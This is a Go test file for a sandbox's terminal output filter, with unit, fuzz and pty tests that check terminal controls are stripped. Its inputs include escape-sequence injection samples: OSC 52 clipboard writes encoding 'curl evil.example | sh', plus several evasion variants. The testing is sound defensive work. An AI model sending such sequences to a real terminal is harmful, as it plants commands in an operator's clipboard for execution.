//go:build linux

package main

import (
	"bytes"
	"fmt"
	"io"
	"os/exec"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// filtered runs the chunks through a terminalFilter, one Write each.
func filtered(t testing.TB, chunks ...string) string {
	var out bytes.Buffer
	f := newTerminalFilter(&out)
	for _, c := range chunks {
		n, err := f.Write([]byte(c))
		require.NoError(t, err)
		require.Equal(t, len(c), n)
	}
	return out.String()
}

// TestTerminalOutputThatShows: what shells, editors and pagers write
// passes as it is.
func TestTerminalOutputThatShows(t *testing.T) {
	for _, s := range []string{
		"plain text\r\n",
		"tab\tbell\a backspace\b",
		"\x1b[31mred\x1b[0m \x1b[1;38;5;208mbold orange\x1b[m",
		"\x1b[2J\x1b[H\x1b[10;20H\x1b[K\x1b[?25l\x1b[?25h",
		"\x1b[?1049h\x1b[?1h\x1b=\x1b[?1049l\x1b>",  // an editor's alternate screen and keypad
		"\x1b(B\x1b)0\x1b7\x1b8\x1bM\x1bc",          // charsets, save and restore, reverse index, reset
		"\x1b[6n\x1b[c\x1b[>c\x1b[?2004h",           // queries whose answers are fixed, bracketed paste
		"é ŝ ќ € 🙂 \u00a0nbsp \u00bf",               // UTF-8 whose bytes include 0x9C, 0x9D
		"\x1b[ q\x1b[2 q",                           // cursor shape (an intermediate)
		strings.Repeat("\x1b[1;2;3;4;5;6;7;8m", 50), // many sequences, none long
	} {
		assert.Equal(t, s, filtered(t, s), "%q", s)
		// The same, a byte per write.
		assert.Equal(t, s, filtered(t, strings.Split(s, "")...), "%q a byte at a time", s)
	}
}

// TestTerminalControlsThatActAreDropped: the controls through which the
// sandbox could make the operator's terminal act, in every form and
// disguise, leave nothing of themselves; the text around them stays.
func TestTerminalControlsThatActAreDropped(t *testing.T) {
	clip := "52;c;" + "Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo="
	for _, tt := range []struct{ name, in, want string }{
		{"OSC 52 ended by BEL", "a\x1b]" + clip + "\ab", "ab"},
		{"OSC 52 ended by ST", "a\x1b]" + clip + "\x1b\\b", "ab"},
		{"OSC as UTF-8 C1", "a\u009d" + clip + "\ab", "ab"},
		{"OSC as a bare C1 byte", "a\x9d" + clip + "\x9cb", "ab"},
		{"OSC ended by C1 ST in UTF-8", "a\x1b]" + clip + "\u009cb", "ab"},
		{"title", "a\x1b]0;title\ab", "ab"},
		{"iTerm2 file", "a\x1b]1337;File=name=eA==;inline=0:eA==\ab", "ab"},
		{"DCS DECUDK", "a\x1bP0;1|17/6563686f0a\x1b\\b", "ab"},
		{"DECRQSS", "a\x1bP$qm\x1b\\b", "ab"},
		{"DCS as UTF-8 C1", "a\u0090$qm\x1b\\b", "ab"},
		{"APC (kitty graphics)", "a\x1b_Gf=100;AAAA\x1b\\b", "ab"},
		{"PM and SOS", "a\x1b^pm\x1b\\\x1bXsos\x1b\\b", "ab"},
		{"a string cancelled by CAN", "a\x1b]52;c;x\x18b", "ab"},
		{"a string that never ends", "a\x1b]52;c;" + strings.Repeat("A", 100000), "a"},
		{"report the title", "a\x1b[21tb", "ab"},
		{"window moved", "a\x1b[3;0;0tb", "ab"},
		{"8-bit CSI window op", "a\u009b21tb", "ab"},
		{"bare 8-bit CSI window op", "a\x9b21tb", "ab"},
		{"media copy", "a\x1b[5ib\x1b[0i", "ab"},
		{"ENQ", "a\x05b", "ab"},
		{"8-bit CSI that passes is sent as 7-bit", "a\u009b1mb", "a\x1b[1mb"},
		{"other C1 controls", "a\u0085\u008d\x84b", "ab"},

		// A C0 control a terminal executes inside a control, and stays in it.
		{"LF between ESC and ]", "a\x1b\n]" + clip + "\ab", "ab"},
		{"BS between ESC and ]", "a\x1b\b]52;c;x\ab", "ab"},
		{"LF inside a window op", "a\x1b[2\n1tb", "ab"},
		{"DEL inside a window op", "a\x1b[2\x7f1tb", "ab"},
		{"ESC ESC ]", "a\x1b\x1b]52;c;x\ab", "ab"},
		// A control that ends for the filter: what follows cannot make
		// the ESC before it an introducer.
		{"ESC, then a C1 string, then ]", "a\x1b\u009dx\a]52;c;x\ab", "a]52;c;x\ab"},
		{"ESC, then a bare byte, then ]", "a\x1b\xff]52;c;x\ab", "a\xff]52;c;x\ab"},
		{"a CSI too long to hold, ending in t", "a\x1b[" + strings.Repeat("1;", 100) + "tb", "ab"},
		{"a CSI broken by a UTF-8 byte", "a\x1b[21\u00e9tb", "a\u00e9tb"},
		{"an OSC inside a CSI", "a\x1b[2\x1b]52;c;x\ab", "ab"},
		{"a string restarted inside one", "a\x1b]0;x\x1b]52;c;y\ab", "ab"},
		{"ST with nothing to end", "a\x1b\\b", "ab"},
	} {
		assert.Equal(t, tt.want, filtered(t, tt.in), "%s: %q", tt.name, tt.in)
		// Split at every place: a control across two writes is the same.
		for i := 1; i < len(tt.in) && i < 64; i++ {
			if got := filtered(t, tt.in[:i], tt.in[i:]); got != tt.want {
				assert.Equal(t, tt.want, got, "%s split at %d: %q", tt.name, i, tt.in)
				break
			}
		}
	}
}

// terminalModel reads bytes as a terminal's parser does (the DEC state
// machine, decoding UTF-8 in its ground state, and taking a bare C1 byte
// for a control as a terminal in an 8-bit mode does) and records every
// control that would make the terminal act.
type terminalModel struct {
	state   int
	pending []byte // an incomplete UTF-8 character
	acted   []string
}

const (
	tmGround = iota
	tmEscape
	tmEscapeIntermediate
	tmCSI
)

func (m *terminalModel) feed(p []byte) {
	for _, b := range p {
		m.take(b)
	}
}

func (m *terminalModel) take(b byte) {
	switch m.state {
	case tmEscape:
		switch {
		case b == ']' || b == 'P' || b == '_' || b == '^' || b == 'X':
			m.acted = append(m.acted, fmt.Sprintf("string ESC %c", b))
			m.state = tmGround
		case b == '[':
			m.state = tmCSI
		case b == 0x18 || b == 0x1a:
			m.state = tmGround
		case b < 0x20 || b == 0x7f || b == 0x1b: // executed, ignored, or ESC again
		case b < 0x30:
			m.state = tmEscapeIntermediate
		case b < 0x7f:
			m.state = tmGround
		default:
			m.state = tmGround
			m.take(b)
		}
	case tmEscapeIntermediate:
		switch {
		case b == 0x1b:
			m.state = tmEscape
		case b == 0x18 || b == 0x1a || (b >= 0x30 && b < 0x7f):
			m.state = tmGround
		case b >= 0x80:
			m.state = tmGround
			m.take(b)
		}
	case tmCSI:
		switch {
		case b == 't' || b == 'i':
			m.acted = append(m.acted, fmt.Sprintf("CSI %c", b))
			m.state = tmGround
		case b >= 0x40 && b < 0x7f, b == 0x18, b == 0x1a:
			m.state = tmGround
		case b == 0x1b:
			m.state = tmEscape
		case b >= 0x80:
			m.state = tmGround
			m.take(b)
		}
	default:
		m.ground(b)
	}
}

func (m *terminalModel) ground(b byte) {
	if len(m.pending) > 0 || b >= 0xc0 {
		m.pending = append(m.pending, b)
		if !utf8.FullRune(m.pending) {
			return
		}
		r, size := utf8.DecodeRune(m.pending)
		rest := m.pending[size:]
		m.pending = nil
		if r >= 0x80 && r <= 0x9f {
			m.c1(byte(r))
		}
		for _, c := range rest {
			m.take(c)
		}
		return
	}
	switch {
	case b == 0x1b:
		m.state = tmEscape
	case b == 0x05:
		m.acted = append(m.acted, "ENQ")
	case b >= 0x80 && b <= 0x9f:
		m.c1(b)
	}
}

func (m *terminalModel) c1(c byte) {
	switch c {
	case 0x90, 0x98, 0x9d, 0x9e, 0x9f:
		m.acted = append(m.acted, fmt.Sprintf("string C1 %#x", c))
	case 0x9b:
		m.state = tmCSI
	default:
		m.acted = append(m.acted, fmt.Sprintf("C1 %#x", c))
	}
}

// FuzzTerminalFilter: whatever the sandbox writes, in however many
// writes, a terminal that reads what the filter passes never meets a
// control that makes it act; and text with no control in it passes
// whole.
func FuzzTerminalFilter(f *testing.F) {
	for _, s := range []string{
		"\x1b]52;c;eA==\a", "\x1b\n]52;c;x\a", "\u009d52;c;x\a", "\x9b21t", "\x1b[2\n1t",
		"\x1b\u009dx\a]52;c;x\a", "\x1bP$qm\x1b\\", "é ŝ € 🙂", "\x1b[31mred\x1b[0m",
	} {
		f.Add([]byte(s), uint8(3))
	}
	f.Fuzz(func(t *testing.T, in []byte, cut uint8) {
		i := int(cut) % (len(in) + 1)
		out := filtered(t, string(in[:i]), string(in[i:]))
		var m terminalModel
		m.feed([]byte(out))
		assert.Empty(t, m.acted, "%q passed as %q", in, out)
		if utf8.Valid(in) && !bytes.ContainsAny(in, "\x1b\x05") && !containsC1(string(in)) {
			assert.Equal(t, string(in), out)
		}
	})
}

func containsC1(s string) bool {
	for _, r := range s {
		if r >= 0x80 && r <= 0x9f {
			return true
		}
	}
	return false
}

// TestSandboxCannotWriteTheOperatorsClipboard: through a real pty and
// the operator's terminal (script's), what a sandbox prints reaches the
// operator, and the clipboard and title controls it prints do not.
func TestSandboxCannotWriteTheOperatorsClipboard(t *testing.T) {
	if _, err := exec.LookPath("script"); err != nil {
		t.Skip("requires script (util-linux) for a terminal")
	}
	w := requireWorld(t)
	inner := w.self + ` exec alice -- sh -c 'printf "before\033]52;c;Y3VybCBldmlsIHwgc2gK\007\302\23552;c;eA==\007\033[21tafter\n"'`
	cmd := exec.Command("script", "-qec", inner, "/dev/null")
	cmd.Env = w.env()
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "%q", out)
	assert.Contains(t, string(out), "beforeafter", "the text reaches the operator")
	assert.NotContains(t, string(out), "52;c;", "a clipboard write reached the operator's terminal: %q", out)
	assert.NotContains(t, string(out), "\x1b[21t", "a title report reached the operator's terminal: %q", out)
}

// BenchmarkTerminalFilter: what the filter costs on a coloured listing
// with some UTF-8, against the terminal's own pace (a terminal draws tens
// of MB/s at most).
func BenchmarkTerminalFilter(b *testing.B) {
	chunk := []byte(strings.Repeat("\x1b[01;34mdirectory\x1b[0m  file.go  naïve–café ✓\r\n", 400))
	f := newTerminalFilter(io.Discard)
	b.SetBytes(int64(len(chunk)))
	for b.Loop() {
		f.Write(chunk)
	}
}
